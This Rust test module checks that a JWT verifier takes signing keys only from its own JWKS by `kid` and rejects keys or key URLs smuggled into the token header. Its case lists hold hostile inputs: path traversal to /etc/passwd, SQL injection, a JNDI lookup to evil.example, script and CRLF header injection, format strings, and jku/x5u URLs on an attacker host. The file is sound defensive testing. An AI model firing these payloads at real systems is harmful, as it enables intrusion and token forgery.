//! Key selection: the key comes from the pool's JWKS by `kid`, never from
//! the token (odd kids, keys and key locations smuggled in the header).

use jsonwebtoken::Algorithm;

use super::tokens::*;
use super::*;

/// The key comes from the pool's JWKS by `kid`, never from the token.
pub(super) fn key_selection_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut no_kid = trusted_header();
    no_kid.as_object_mut().map(|h| h.remove("kid"));
    cases.push(Case::bearer(
        "kid missing",
        signed(&no_kid, &claims()),
        Invalid(MissingKid),
    ));
    cases.push(Case::bearer(
        "kid empty",
        signed(&header_with(&[("kid", json!(""))]), &claims()),
        Invalid(MissingKid),
    ));
    cases.push(Case::bearer(
        "kid null",
        signed(&header_with(&[("kid", json!(null))]), &claims()),
        Invalid(MissingKid),
    ));
    for (what, kid) in [
        ("a number", json!(1)),
        ("an array", json!([trusted_key().kid])),
        ("an object", json!({"kid": trusted_key().kid})),
        ("a boolean", json!(true)),
    ] {
        cases.push(Case::bearer(
            format!("kid is {what}"),
            signed(&header_with(&[("kid", kid)]), &claims()),
            Invalid(BadHeader),
        ));
    }
    let near = &trusted_key().kid;
    for kid in [
        "made-up".to_owned(),
        near.to_uppercase(),
        format!("{near} "),
        format!(" {near}"),
        format!("{near}\u{0}"),
        format!("{near}\n"),
        near[..near.len() - 1].to_owned(),
        format!("{near}2"),
        "../../../../etc/passwd".to_owned(),
        "/dev/urandom".to_owned(),
        "file:///etc/passwd".to_owned(),
        "https://evil.example/.well-known/jwks.json".to_owned(),
        "' OR '1'='1".to_owned(),
        format!("{near}' --"),
        "*".to_owned(),
        "%s%s%n".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "<script>alert(1)</script>".to_owned(),
        format!("{near}\r\nX-Injected: 1"),
        "__proto__".to_owned(),
        "k".repeat(8_000),
    ] {
        let label: String = kid.chars().take(40).collect();
        cases.push(Case::bearer(
            format!("kid {label:?} ({} bytes)", kid.len()),
            signed(&header_with(&[("kid", json!(kid))]), &claims()),
            Invalid(UnknownKid),
        ));
    }
    cases.push(Case::bearer(
        "kid so large the token is over the limit",
        signed(
            &header_with(&[("kid", json!("k".repeat(13_000)))]),
            &claims(),
        ),
        Invalid(TooLarge),
    ));
    cases.push(Case::bearer(
        "an unpublished key under its own kid",
        sign(&claims(), rotated_key()),
        Invalid(UnknownKid),
    ));

    // Keys and key locations smuggled in the header (RFC 8725 §3.10).
    let rogue_jwk = json!({"kty": "RSA", "kid": "attacker", "n": "AQAB", "e": "AQAB"});
    let forbidden = [
        ("embedded jwk", json!({"jwk": rogue_jwk})),
        (
            "embedded copy of the trusted jwk",
            json!({"jwk": trusted_key().jwk()}),
        ),
        ("jku", json!({"jku": "https://evil.example/jwks.json"})),
        (
            "jku pointing at the pool",
            json!({"jku": format!("{ISSUER}/.well-known/jwks.json")}),
        ),
        ("x5u", json!({"x5u": "https://evil.example/cert.pem"})),
        (
            "x5c",
            json!({"x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]}),
        ),
        ("crit exp", json!({"crit": ["exp"]})),
        ("crit empty", json!({"crit": []})),
        (
            "crit b64 with b64 false",
            json!({"crit": ["b64"], "b64": false}),
        ),
        ("jku null", json!({"jku": null})),
    ];
    for (what, extra) in forbidden {
        let mut header = trusted_header();
        for (k, v) in extra.as_object().expect("object") {
            header[k] = v.clone();
        }
        // Signed by the attacker's key: the one the smuggled parameter names.
        cases.push(Case::bearer(
            format!("header with {what}"),
            sign_raw(&header, &claims(), &rogue_key().encoding, Algorithm::RS256),
            Invalid(ForbiddenHeaderParameter),
        ));
    }
    cases
}
